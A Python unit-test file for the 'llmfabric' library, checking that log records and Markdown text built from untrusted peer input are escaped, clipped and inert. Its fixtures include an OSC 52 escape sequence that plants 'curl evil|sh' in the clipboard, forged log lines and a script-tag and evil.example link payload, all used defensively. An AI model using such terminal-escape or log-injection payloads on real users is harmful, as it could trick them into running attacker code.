"""llmfabric/untrusted.py outside the CLI: a process that configures logging itself (its own
handlers and formatters, no `LogFormatter`) still gets llmfabric's records escaped and
clipped; Markdown text for the files the operator reads."""

from __future__ import annotations

import ast
import io
import logging
import pathlib
from collections.abc import Iterator

import pytest

from llmfabric.untrusted import MESSAGE_CAP, markdown_text

pytestmark = [pytest.mark.unit, pytest.mark.hostile]

SRC = pathlib.Path(__file__).resolve().parents[2] / "src" / "llmfabric"
OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
FORGED = "\n2026-12-02 12:00:00,000 ERROR llmfabric.node: forged"


@pytest.fixture
def user_log() -> Iterator[io.StringIO]:
    """What a library user's own `logging` set-up writes (a plain Formatter)."""
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger("llmfabric")
    root.addHandler(handler)
    level, root.level = root.level, logging.DEBUG
    try:
        yield out
    finally:
        root.removeHandler(handler)
        root.setLevel(level)


def test_a_library_user_s_own_logging_gets_escaped_records(user_log: io.StringIO) -> None:
    from llmfabric.net import serving

    serving.log.warning("request handler failed for %s %s: %s", "POST", "/v1/x" + FORGED,
                        ValueError("peer" + OSC52))
    serving.log.warning(f"an f-string with a peer's text: {FORGED}")
    serving.log.warning("engine said %s", "E" * (MESSAGE_CAP * 64))
    try:
        raise ExceptionGroup("grp", [ValueError("no" + FORGED + OSC52)])
    except ExceptionGroup:
        serving.log.exception("handler failed")
    text = user_log.getvalue()
    assert "\x1b" not in text
    lines = text.splitlines()
    assert not any(ln.startswith("2026-12-02") for ln in lines)
    assert lines[0] == ("WARNING llmfabric.net.serving: request handler failed for POST "
                        "/v1/x\\n2026-12-02 12:00:00,000 ERROR llmfabric.node: forged: "
                        "peer\\x1b]52;c;Y3VybCBldmlsfHNo\\x1b\\")
    assert lines[1].endswith("peer's text: \\n2026-12-02 12:00:00,000 ERROR llmfabric.node: "
                             "forged")
    assert len(lines[2]) < MESSAGE_CAP + 100 and lines[2].endswith("more characters]")
    assert any(ln.strip(" |").startswith("ValueError: no\\n2026-12-02") for ln in lines)


def test_honest_records_read_as_before(user_log: io.StringIO) -> None:
    from llmfabric.net import serving

    serving.log.info("%d requests, %.1f s, %r, %s", 3, 1.25, "zürich", KeyError("k"))
    serving.log.info("%(peer)s: %(n)d", {"peer": "nabc", "n": 2})
    assert user_log.getvalue().splitlines() == [
        "INFO llmfabric.net.serving: 3 requests, 1.2 s, 'zürich', 'k'",
        "INFO llmfabric.net.serving: nabc: 2",
    ]


def test_every_llmfabric_logger_escapes() -> None:
    """A logger's filters see only the records logged on it, not those of its children:
    each module takes its logger from `get_logger`, none from `logging.getLogger`."""
    calls = []
    for path in SRC.rglob("*.py"):
        if path == SRC / "untrusted.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (isinstance(node, ast.Attribute) and node.attr == "getLogger"
                    and isinstance(node.value, ast.Name) and node.value.id == "logging"):
                calls.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert calls == []


def test_markdown_text_is_inert() -> None:
    name = "a|b`c`<script>x</script>[l](https://evil.example)&lt;$x$\\" + OSC52 + "\nrow"
    md = markdown_text(name)
    assert "\x1b" not in md and "\n" not in md
    for c in "|`<>[]&$":
        assert all(md[i - 1] == "\\" for i, ch in enumerate(md) if ch == c)
    assert markdown_text("meta-llama/Llama-3.1-8B-Instruct:q4_k_m") == \
        "meta-llama/Llama-3.1-8B-Instruct:q4_k_m"


def test_log_due_picks_the_1st_2nd_4th_8th_occurrence() -> None:
    from llmfabric.untrusted import log_due

    assert [n for n in range(0, 70) if log_due(n)] == [1, 2, 4, 8, 16, 32, 64]
